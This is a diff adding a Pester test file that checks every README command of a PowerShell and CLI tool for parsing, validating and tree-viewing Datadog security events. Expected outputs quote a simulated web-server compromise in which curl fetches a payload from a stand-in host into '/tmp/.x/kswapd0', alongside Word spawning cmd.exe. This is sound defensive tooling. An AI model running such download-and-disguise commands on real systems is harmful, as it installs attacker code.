@@ -1,0 +1,479 @@
+# Every command of README.md's code blocks runs here, and the test asserts what its comment (or the text around it)
+# claims. A command this file does not know fails, naming it: a new README line needs its assertion here. A known
+# command that left the README fails too, so this file cannot drift from the page.
+#
+# PowerShell lines run as in ExampleRunner.ps1: a fresh runspace with the built module, located in a copy of
+# samples/; -Query lines against the loopback Datadog stub serving samples/datadog/logs-search-page.json.
+# Shell lines (```sh) run with `sh -c` in such a folder, with the built CLI first on PATH as `csm-events`; the
+# README's `dotnet run --project src/CsmEvents.Cli -c Release --` is that same build; Datadog lines get
+# `--api-url` of the stub appended. The two download lines (Invoke-WebRequest, curl) do not run, because tests have
+# no network: the line after each gets the same file, Datadog's backend_linux.schema.json, from
+# ../shared/datadog-agent-schemas (and is skipped, saying so, where ../shared is absent). The build and test
+# commands are what runs this suite: their tests check what they leave behind.
+
+BeforeDiscovery {
+    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
+    . (Join-Path $PSScriptRoot 'ExampleRunner.ps1')
+    $powershellLines = @(Get-ReadmeCommand | Where-Object { $_.Kind -eq 'powershell' })
+    $shellLines = @(Get-ReadmeCommand | Where-Object { $_.Kind -eq 'sh' })
+}
+
+BeforeAll {
+    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
+    . (Join-Path $PSScriptRoot 'ExampleRunner.ps1')
+    Import-CsmEventsModule
+    $samples = $script:SamplesFolder
+    $cliFolder = Join-Path $script:RepoRoot 'src/CsmEvents.Cli/bin/Release/net10.0'
+    $schemaUrl = 'https://raw.githubusercontent.com/DataDog/datadog-agent/main/docs/cloud-workload-security/backend_linux.schema.json'
+
+    function Get-OutputObject {
+        param($Run)
+        @($Run.Items | Where-Object {
+                $_ -isnot [System.Management.Automation.ErrorRecord] -and $_ -isnot [System.Management.Automation.WarningRecord] -and
+                $_ -isnot [System.Management.Automation.InformationRecord] -and $_ -isnot [System.Management.Automation.VerboseRecord]
+            })
+    }
+
+    # The JSON lines of a file, parsed: the independent view of what a sample holds.
+    function Read-JsonLine {
+        param([string] $Path)
+        @(Get-Content -LiteralPath $Path -Encoding UTF8 | Where-Object { $_.Trim().Length -gt 0 } | ForEach-Object { $_ | ConvertFrom-Json })
+    }
+
+    # A download line of the README: the URL is Datadog's published file, the one ../shared/datadog-agent-schemas
+    # holds a copy of (its SOURCE.md names the repository path).
+    function Assert-SchemaDownload {
+        param([string] $Command)
+        $Command | Should -Match ([regex]::Escape($schemaUrl))
+        $source = Join-Path $script:SharedSchemaFolder 'SOURCE.md'
+        if (Test-Path -LiteralPath $source) {
+            (Get-Content -LiteralPath $source -Raw) | Should -Match '\| backend_linux\.schema\.json \| DataDog/datadog-agent \| docs/cloud-workload-security/backend_linux\.schema\.json \|'
+        }
+    }
+
+    # One README PowerShell line run as a user would, in a fresh folder; the assertion gets the run.
+    function Invoke-ReadmeLine {
+        param([string] $Command, [switch] $WithLinuxSchema)
+        $stub = $null
+        if (Test-DatadogCommand $Command) { $stub = Start-DatadogStub -Pages (Get-StubPage) }
+        $session = New-ExampleSession -Folder (New-ExampleFolder -WithLinuxSchema:$WithLinuxSchema) -Stub $stub
+        $result = Invoke-ExampleStep -Session $session -Command $Command
+        [pscustomobject]@{
+            Session = $session
+            Folder = $session.Folder
+            Items = $result.Items
+            Objects = @(Get-OutputObject $result)
+            Errors = @($result.Items | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] })
+            Text = ConvertTo-ComparableText -Lines $result.Lines -Folder $session.Folder
+            Requests = if ($null -ne $stub) { @($stub.Requests.ToArray()) } else { @() }
+        }
+    }
+
+    # One README shell line, run with sh in a fresh folder with csm-events first on PATH.
+    function Invoke-ShellLine {
+        param([string] $Line, [switch] $WithLinuxSchema)
+        $line = $Line.Replace('dotnet run --project src/CsmEvents.Cli -c Release --', 'csm-events')
+        $stub = $null
+        if ($line -match '--query') {
+            $stub = Start-DatadogStub -Pages (Get-StubPage)
+            $line += ' --api-url ' + $stub.Url
+        }
+        $folder = New-ExampleFolder -WithLinuxSchema:$WithLinuxSchema
+        try {
+            $start = New-Object System.Diagnostics.ProcessStartInfo 'sh'
+            $start.ArgumentList.Add('-c')
+            $start.ArgumentList.Add($line)
+            $start.WorkingDirectory = $folder
+            $start.RedirectStandardOutput = $true
+            $start.RedirectStandardError = $true
+            $start.UseShellExecute = $false
+            $start.Environment['PATH'] = $cliFolder + [System.IO.Path]::PathSeparator + $start.Environment['PATH']
+            $process = [System.Diagnostics.Process]::Start($start)
+            $errorsRead = $process.StandardError.ReadToEndAsync()
+            $output = $process.StandardOutput.ReadToEnd()
+            $process.WaitForExit()
+            $files = @{}
+            foreach ($name in 'windows.schema.json') {
+                $path = Join-Path $folder $name
+                if (Test-Path -LiteralPath $path) { $files[$name] = [System.IO.File]::ReadAllText($path) }
+            }
+            [pscustomobject]@{
+                ExitCode = $process.ExitCode
+                Lines = @($output -split "`n" | Where-Object { $_.Length -gt 0 })
+                Errors = $errorsRead.Result
+                Files = $files
+                Requests = if ($null -ne $stub) { @($stub.Requests.ToArray()) } else { @() }
+            }
+        }
+        finally {
+            if ($null -ne $stub) { Stop-DatadogStub $stub }
+            Remove-Item -LiteralPath $folder -Recurse -Force -ErrorAction SilentlyContinue
+        }
+    }
+
+    # What each README PowerShell line claims. Key: the line exactly as the README writes it.
+    $powershellClaims = [ordered]@{
+        'Import-Module ./out/CsmEvents' = @{
+            Test = {
+                $session = New-ExampleSession -Folder $script:RepoRoot -WithoutModule -KeepFolder
+                try {
+                    $import = Invoke-ExampleStep -Session $session -Command 'Import-Module ./out/CsmEvents'
+                    @($import.Items).Count | Should -Be 0
+                    $module = @((Invoke-ExampleStep -Session $session -Command 'Get-Module CsmEvents').Items)
+                    $module.Count | Should -Be 1
+                    (Resolve-Path -LiteralPath $module[0].ModuleBase).ProviderPath | Should -Be (Resolve-Path -LiteralPath (Join-Path $script:RepoRoot 'out/CsmEvents')).ProviderPath
+                    $exported = (Import-PowerShellDataFile -LiteralPath $script:ModuleManifest).CmdletsToExport
+                    @($module[0].ExportedCmdlets.Keys | Sort-Object) | Should -Be @($exported | Sort-Object)
+                }
+                finally { Close-ExampleSession $session }
+            }
+        }
+        'Get-CsmEvent ./samples/windows/incident-ws01.jsonl -EventType exec | Sort-Object Timestamp -Descending' = @{
+            Test = {
+                param($Run)
+                $execs = @(Read-JsonLine (Join-Path $samples 'windows/incident-ws01.jsonl') | Where-Object { $_.evt.name -eq 'exec' })
+                $Run.Objects.Count | Should -Be $execs.Count
+                $Run.Objects.Count | Should -Be 6
+                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([CsmEvents.Model.CsmEvent]); $_.EventType | Should -Be 'exec'; $_.Platform | Should -Be 'Windows' }
+                for ($i = 1; $i -lt $Run.Objects.Count; $i++) { $Run.Objects[$i - 1].Timestamp | Should -BeGreaterOrEqual $Run.Objects[$i].Timestamp }
+                # As a table: the default view.
+                ($Run.Text -split "`n")[0] | Should -Match '^Time \(UTC\)\s+Host\s+EventType\s+RuleId\s+Process\s+Outcome\s+Target$'
+                @($Run.Text -split "`n").Count | Should -Be (2 + $execs.Count)
+            }
+        }
+        "Get-CsmEvent ./samples -Recurse | Where-Object { `$_.Process.Executable.Name -eq 'cmd.exe' }" = @{
+            Test = {
+                param($Run)
+                $Run.Objects.Count | Should -Be 2
+                $Run.Objects | ForEach-Object { $_.Process.Executable.Name | Should -BeExactly 'cmd.exe' }
+                # What ran it: the parent the events carry.
+                @($Run.Objects | ForEach-Object { $_.Process.Parent.Name } | Sort-Object -Unique) | Should -Be @('WINWORD.EXE')
+            }
+        }
+        'Get-CsmEvent ./samples/linux/incident-web01.jsonl.gz -Outcome Refused | Format-List' = @{
+            Test = {
+                param($Run)
+                $gz = [System.IO.File]::ReadAllBytes((Join-Path $samples 'linux/incident-web01.jsonl.gz'))
+                @($gz[0], $gz[1]) | Should -Be @(0x1f, 0x8b) -Because 'the file is gzip, detected from its first bytes'
+                $refused = @(Read-JsonLine (Join-Path $samples 'linux/incident-web01.jsonl') | Where-Object { $_.evt.outcome -eq 'Refused' })
+                $refused.Count | Should -Be 1
+                $lines = @($Run.Text -split "`n")
+                @($lines | Where-Object { $_ -match '^Outcome\s+: ' }).Count | Should -Be $refused.Count
+                @($lines | Where-Object { $_ -match '^Outcome\s+: Refused$' }).Count | Should -Be $refused.Count
+                @($lines | Where-Object { $_ -match '^RuleId\s+: (.*)$' } | ForEach-Object { $Matches[1] }) | Should -Be @($refused.agent.rule_id)
+                $Run.Errors.Count | Should -Be 0
+            }
+        }
+        'Get-CsmEvent ./samples/datadog/logs-search-page.json | Select-Object Timestamp, HostName, EventType, RuleId' = @{
+            Test = {
+                param($Run)
+                $pagePath = Join-Path $samples 'datadog/logs-search-page.json'
+                $logs = @((Get-Content -LiteralPath $pagePath -Raw | ConvertFrom-Json).data)
+                $Run.Objects.Count | Should -Be $logs.Count
+                $Run.Objects.Count | Should -Be 8
+                for ($i = 0; $i -lt $logs.Count; $i++) {
+                    $Run.Objects[$i].HostName | Should -BeExactly $logs[$i].attributes.host
+                    $Run.Objects[$i].RuleId | Should -BeExactly $logs[$i].attributes.attributes.agent.rule_id
+                    @($Run.Objects[$i].PSObject.Properties.Name) | Should -Be @('Timestamp', 'HostName', 'EventType', 'RuleId')
+                }
+                # The service and tags are kept with each event too.
+                $events = @(Get-CsmEvent -LiteralPath $pagePath)
+                for ($i = 0; $i -lt $logs.Count; $i++) {
+                    $events[$i].Source.Envelope.Service | Should -BeExactly $logs[$i].attributes.service
+                    @($events[$i].Source.Envelope.Tags) | Should -Be @($logs[$i].attributes.tags)
+                }
+            }
+        }
+        'Get-ChildItem ./samples -Recurse -Filter *.jsonl | Get-CsmEvent -Platform Linux' = @{
+            Test = {
+                param($Run)
+                $Run.Objects.Count | Should -Be 42
+                $Run.Objects | ForEach-Object { $_.Platform | Should -Be 'Linux' }
+                # Each piped file read once, as if its path were given.
+                $files = @(Get-ChildItem -LiteralPath $samples -Recurse -Filter *.jsonl | ForEach-Object { $_.FullName })
+                $Run.Objects.Count | Should -Be @(Get-CsmEvent -LiteralPath $files -Platform Linux).Count
+                @($Run.Objects | ForEach-Object { $_.Source.ToString() } | Sort-Object -Unique).Count | Should -Be $Run.Objects.Count
+            }
+        }
+        'Get-Content ./samples/windows/single-event.json | Get-CsmEvent' = @{
+            Test = {
+                param($Run)
+                $Run.Objects.Count | Should -Be 1
+                $Run.Objects[0].RuleId | Should -BeExactly 'run_key_persistence'
+                ($Run.Objects[0] | ConvertFrom-CsmEvent) | Should -BeExactly (Get-CsmEvent -LiteralPath (Join-Path $samples 'windows/single-event.json') | ConvertFrom-CsmEvent)
+            }
+        }
+        'Get-ChildItem ./samples/windows -Filter *.jsonl | Test-CsmEvent -Detailed | Where-Object { -not $_.IsValid }' = @{
+            Test = {
+                param($Run)
+                # The Windows samples are valid: nothing is left after the filter ...
+                $Run.Items.Count | Should -Be 0
+                # ... of one detailed result per event.
+                $results = @(Get-ChildItem -LiteralPath (Join-Path $samples 'windows') -Filter *.jsonl | Test-CsmEvent -Detailed)
+                $results.Count | Should -Be 24
+                $results | ForEach-Object { $_ | Should -BeOfType ([CsmEvents.Schema.CsmValidationResult]); $_.IsValid | Should -BeTrue; $_.Schema | Should -Be 'windows' }
+            }
+        }
+        'Test-CsmEvent ./samples/linux-legacy/events.jsonl -Schema linux' = @{
+            Test = {
+                param($Run)
+                $Run.Objects.Count | Should -Be @(Read-JsonLine (Join-Path $samples 'linux-legacy/events.jsonl')).Count
+                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([bool]); $_ | Should -BeTrue }
+            }
+        }
+        "Invoke-WebRequest $schemaUrl -OutFile ./backend_linux.schema.json" = @{
+            NotRun = 'tests have no network; the next line gets this file from ../shared/datadog-agent-schemas'
+            Test = { param($Run, $Command) Assert-SchemaDownload $Command }
+        }
+        'Test-CsmEvent ./samples/linux/newer-agent.jsonl -SchemaPath ./backend_linux.schema.json -IgnoreAdditionalProperties' = @{
+            NeedsLinuxSchema = $true
+            Test = {
+                param($Run)
+                $Run.Objects.Count | Should -Be 3
+                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([bool]); $_ | Should -BeTrue }
+                # The newer agent's fields are what is relaxed: strict validation refuses them.
+                $strict = @(Test-CsmEvent -LiteralPath (Join-Path $samples 'linux/newer-agent.jsonl') -SchemaPath (Join-Path $script:SharedSchemaFolder 'backend_linux.schema.json'))
+                $strict | Should -Be @($false, $false, $false)
+            }
+        }
+        '(Get-CsmSchema windows).Text | Set-Content ./windows.schema.json' = @{
+            Test = {
+                param($Run)
+                $file = Join-Path $Run.Folder 'windows.schema.json'
+                [System.IO.File]::ReadAllText($file).TrimEnd("`r", "`n") | Should -BeExactly (Get-CsmSchema windows).Text.TrimEnd("`r", "`n")
+                @(Test-CsmEvent -LiteralPath (Join-Path $samples 'windows/incident-ws01.jsonl') -SchemaPath $file) | Should -Not -Contain $false
+            }
+        }
+        'Get-CsmEvent ./samples/linux/incident-web01.jsonl | Get-CsmProcessTree -Name curl -Ancestry' = @{
+            Test = {
+                param($Run)
+                # What started curl: its lineage, from the root down to curl.
+                @($Run.Objects | ForEach-Object { $_.Name }) | Should -Be @('systemd', 'systemd', 'nginx', 'nginx', 'nginx', 'sh', 'sh', 'curl')
+                @($Run.Objects | ForEach-Object { $_.Depth }) | Should -Be @(0..7)
+                @($Run.Objects | Where-Object { $_.IsSelected } | ForEach-Object { $_.Pid }) | Should -Be @(24313)
+                $Run.Objects[-1].EventCount | Should -Be 5
+            }
+        }
+        'Get-CsmProcessTree ./samples/linux/incident-web01.jsonl -Name nginx -AsText' = @{
+            Test = {
+                param($Run)
+                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([string]) }
+                $Run.Objects[0] | Should -BeExactly ('host: ' + (Join-Path $Run.Folder 'samples/linux/incident-web01.jsonl'))
+                $Run.Objects[1] | Should -BeExactly "nginx (1187) [exec, selected]: /usr/sbin/nginx -g 'daemon off; master_process on;'"
+                # What each process did: the event counts of the tree below nginx.
+                $Run.Objects | Should -Contain '         │  └─ curl (24313) [exec] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0'
+                $Run.Objects | Should -Contain '         └─ kswapd0 (24311) [exec] 12 events: /tmp/.x/kswapd0'
+                $Run.Objects.Count | Should -Be 22
+            }
+        }
+        'Get-CsmProcessTree ./samples/windows/incident-ws01.jsonl -Format Mermaid | Set-Content ./ws01.mmd' = @{
+            Test = {
+                param($Run)
+                $mermaid = @(Get-Content -LiteralPath (Join-Path $Run.Folder 'ws01.mmd') -Encoding UTF8)
+                $mermaid[0] | Should -BeExactly 'flowchart TD'
+                ($mermaid -join "`n") | Should -BeExactly ((Get-CsmProcessTree -LiteralPath (Join-Path $Run.Folder 'samples/windows/incident-ws01.jsonl') -Format Mermaid) -replace "`r?`n$", '')
+                ($mermaid -join "`n") | Should -Match 'WINWORD\.EXE \(7412\)'
+            }
+        }
+        "Get-CsmEvent -Query '@agent.rule_id:shell_from_webserver' -From (Get-Date).AddHours(-6) | Get-CsmProcessTree" = @{
+            Test = {
+                param($Run)
+                $Run.Requests.Count | Should -Be 2 -Because 'the sample page has a cursor; the second page is the last'
+                $body = $Run.Requests[0]
+                $body | Should -Match ([regex]::Escape('@agent.rule_id:shell_from_webserver'))
+                $from = [DateTimeOffset]::Parse(([regex]::Match($body, '"from":"([^"]+)"')).Groups[1].Value, [System.Globalization.CultureInfo]::InvariantCulture)
+                ([DateTimeOffset]::UtcNow - $from).TotalMinutes | Should -BeGreaterThan 355
+                ([DateTimeOffset]::UtcNow - $from).TotalMinutes | Should -BeLessThan 365
+                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([CsmEvents.ProcessTree.ProcessNode]); $_.Host | Should -BeExactly 'web-01' }
+                ($Run.Objects | Where-Object { $_.Name -eq 'kswapd0' }).EventCount | Should -Be 6
+            }
+        }
+        "Get-CsmEvent ./samples/windows/single-event.json | ForEach-Object { `$_.Title = 'reviewed'; `$_ } |`n    ConvertFrom-CsmEvent | Set-Content ./reviewed.jsonl" = @{
+            Test = {
+                param($Run)
+                $written = @(Get-Content -LiteralPath (Join-Path $Run.Folder 'reviewed.jsonl') -Encoding UTF8)
+                $written.Count | Should -Be 1
+                $expected = [System.Text.Json.Nodes.JsonNode]::Parse([System.IO.File]::ReadAllText((Join-Path $samples 'windows/single-event.json')))
+                $expected['title'] = [System.Text.Json.Nodes.JsonValue]::Create('reviewed')
+                # Lossless: the same JSON values, only the title changed.
+                [System.Text.Json.Nodes.JsonNode]::DeepEquals($expected, [System.Text.Json.Nodes.JsonNode]::Parse($written[0])) | Should -BeTrue
+            }
+        }
+    }
+
+    # What each README shell line claims (README: "Run the main job on the bundled samples", "Command line").
+    $shellClaims = [ordered]@{
+        'dotnet run --project src/CsmEvents.Cli -c Release -- get samples --recurse' = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                # Every sample file, each event one line of compact JSON.
+                $Run.Lines.Count | Should -Be @(Get-CsmEvent -LiteralPath $samples -Recurse).Count
+                $Run.Lines.Count | Should -Be 110
+                $Run.Lines | ForEach-Object { { $_ | ConvertFrom-Json } | Should -Not -Throw; $_ | Should -Not -Match '^\{\s|":\s' }
+            }
+        }
+        'dotnet tool restore && dotnet pwsh ./build.ps1 -Task Test' = @{
+            NotRun = 'it is the command that runs this suite'
+            Test = {
+                # What it restores: PowerShell 7.6.10 as a local tool, and Pester 5.7.1.
+                (Get-Content -LiteralPath (Join-Path $script:RepoRoot 'dotnet-tools.json') -Raw | ConvertFrom-Json).tools.powershell.version | Should -Be '7.6.10'
+                (Get-Module Pester).Version.ToString() | Should -Be '5.7.1'
+            }
+        }
+        'dotnet build -c Release' = @{
+            NotRun = 'the build runs before this suite'
+            Test = {
+                # It lays out out/CsmEvents/, ready for Import-Module: the module this suite imported.
+                Test-Path -LiteralPath $script:ModuleManifest | Should -BeTrue
+                (Get-Module CsmEvents).ModuleBase | Should -Be (Split-Path -Parent $script:ModuleManifest)
+            }
+        }
+        "csm-events get samples --recurse --event-type 'exec' --platform windows" = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $Run.Lines.Count | Should -Be 8
+                $Run.Lines | ForEach-Object { $e = $_ | ConvertFrom-Json; $e.evt.name | Should -Be 'exec'; $e.agent.os | Should -Be 'windows' }
+            }
+        }
+        'csm-events get samples/linux/incident-web01.jsonl --after 2025-06-03T09:41:00Z --outcome Refused' = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $after = [DateTimeOffset]::Parse('2025-06-03T09:41:00Z')
+                $expected = @(Get-Content -LiteralPath (Join-Path $samples 'linux/incident-web01.jsonl') -Encoding UTF8 | Where-Object {
+                        $e = $_ | ConvertFrom-Json -DateKind String
+                        $e.evt.outcome -eq 'Refused' -and [DateTimeOffset]::Parse($e.date) -ge $after
+                    })
+                $expected.Count | Should -Be 1
+                $Run.Lines | Should -Be $expected
+            }
+        }
+        'cat samples/windows/events-array.json | csm-events get' = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $Run.Lines | Should -Be @(Get-CsmEvent -LiteralPath (Join-Path $samples 'windows/events-array.json') | ConvertFrom-CsmEvent)
+                $Run.Lines.Count | Should -Be 4
+            }
+        }
+        'csm-events test samples/windows --recurse --json' = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $Run.Lines.Count | Should -Be @(Get-CsmEvent -LiteralPath (Join-Path $samples 'windows') -Recurse).Count
+                $Run.Lines | ForEach-Object { $r = $_ | ConvertFrom-Json; $r.valid | Should -BeTrue; $r.schema | Should -Be 'windows'; $r.source | Should -Match '^samples/windows/.+:\d+$' }
+            }
+        }
+        "curl -fsSLO $schemaUrl" = @{
+            NotRun = 'tests have no network; the next line gets this file from ../shared/datadog-agent-schemas'
+            Test = { param($Run, $Command) Assert-SchemaDownload $Command }
+        }
+        'csm-events test --schema backend_linux.schema.json --ignore-additional-properties samples/linux' = @{
+            NeedsLinuxSchema = $true
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $count = @(Get-CsmEvent -LiteralPath (Join-Path $samples 'linux')).Count
+                $Run.Lines | Should -Be @("$count events: $count valid, 0 invalid")
+            }
+        }
+        'csm-events tree samples/linux/incident-web01.jsonl --name curl --ancestry' = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $Run.Lines[0] | Should -BeExactly 'host: samples/linux/incident-web01.jsonl'
+                $Run.Lines[-1] | Should -BeExactly '                  └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0'
+                $Run.Lines.Count | Should -Be 9
+            }
+        }
+        'csm-events schemas --export windows > windows.schema.json' = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $Run.Files['windows.schema.json'].TrimEnd("`n") | Should -BeExactly (Get-CsmSchema windows).Text.TrimEnd("`n")
+            }
+        }
+        "DD_API_KEY=... DD_APP_KEY=... csm-events get --query '@agent.rule_id:shell_spawned_by_webserver' --from now-6h" = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $Run.Requests[0] | Should -Match ([regex]::Escape('@agent.rule_id:shell_spawned_by_webserver'))
+                $Run.Requests[0] | Should -Match '"from":"now-6h"'
+                $logs = @((Get-Content -LiteralPath (Join-Path $samples 'datadog/logs-search-page.json') -Raw | ConvertFrom-Json).data)
+                @($Run.Lines | ForEach-Object { ($_ | ConvertFrom-Json).agent.rule_id }) | Should -Be @($logs | ForEach-Object { $_.attributes.attributes.agent.rule_id })
+            }
+        }
+        "DD_API_KEY=... DD_APP_KEY=... csm-events tree --query '@agent.rule_id:shell_spawned_by_webserver' --from now-6h" = @{
+            Test = {
+                param($Run)
+                $Run.ExitCode | Should -Be 0
+                $Run.Requests[0] | Should -Match ([regex]::Escape('@agent.rule_id:shell_spawned_by_webserver'))
+                # The processes of the page's events, in the tree of the Datadog host.
+                $Run.Lines[0] | Should -BeExactly 'host: web-01'
+                $Run.Lines[-1] | Should -BeExactly '               └─ kswapd0 (24311) [exec] 6 events: /tmp/.x/kswapd0'
+                $Run.Lines.Count | Should -Be 10
+            }
+        }
+    }
+
+    function Invoke-Claim {
+        param($Claims, [string] $Command, [string] $Kind)
+        $claim = $Claims[$Command]
+        if ($null -eq $claim) {
+            throw "README.md has a $Kind line this test does not know; add what it claims to Readme.Tests.ps1: $Command"
+        }
+        if ($claim.NotRun) {
+            & $claim.Test $null $Command
+            return
+        }
+        if ($claim.NeedsLinuxSchema -and -not (Test-SharedSchemaFolder)) {
+            Set-ItResult -Skipped -Because "it needs Datadog's backend_linux.schema.json, served from ../shared/datadog-agent-schemas, which is absent"
+            return
+        }
+        if ($Kind -eq 'shell') {
+            $run = Invoke-ShellLine -Line $Command -WithLinuxSchema:([bool] $claim.NeedsLinuxSchema)
+            $run.Errors | Should -BeNullOrEmpty -Because "the line writes nothing to standard error: $Command"
+            & $claim.Test $run $Command
+            return
+        }
+        if ($Command -eq 'Import-Module ./out/CsmEvents') { & $claim.Test $null $Command; return }
+        $run = Invoke-ReadmeLine -Command $Command -WithLinuxSchema:([bool] $claim.NeedsLinuxSchema)
+        try {
+            $run.Errors.Count | Should -Be 0 -Because "the line writes no error: $Command"
+            & $claim.Test $run $Command
+        }
+        finally { Close-ExampleSession $run.Session }
+    }
+}
+
+Describe 'README PowerShell line: <Command>' -ForEach $powershellLines {
+    It 'does what its comment says' {
+        if ($PSVersionTable.PSEdition -eq 'Desktop') {
+            Set-ItResult -Skipped -Because 'README lines are checked in PowerShell 7, whose output they describe'
+            return
+        }
+        Invoke-Claim -Claims $powershellClaims -Command $Command -Kind 'PowerShell'
+    }
+}
+
+Describe 'README shell line: <Command>' -ForEach $shellLines {
+    It 'does what the README says' {
+        if ($IsWindows -or $PSVersionTable.PSEdition -eq 'Desktop') {
+            Set-ItResult -Skipped -Because "the README's command lines are POSIX shell lines (cat, VAR=value command, >); they run where sh is"
+            return
+        }
+        if (-not (Test-Path -LiteralPath (Join-Path $cliFolder 'csm-events'))) {
+            throw "csm-events is not built in $cliFolder; ./build.ps1 -Task Test builds it (dotnet build src/CsmEvents.Cli -c Release)"
+        }
+        Invoke-Claim -Claims $shellClaims -Command $Command -Kind 'shell'
+    }
+}
+
+Describe 'README and this test agree' {
+    It 'knows no line the README no longer has' {
+        $readme = @(Get-ReadmeCommand | ForEach-Object { $_.Command })
+        @($powershellClaims.Keys + $shellClaims.Keys | Where-Object { $readme -notcontains $_ }) | Should -BeNullOrEmpty -Because 'every claim checked here is a line of README.md'
+    }
+}
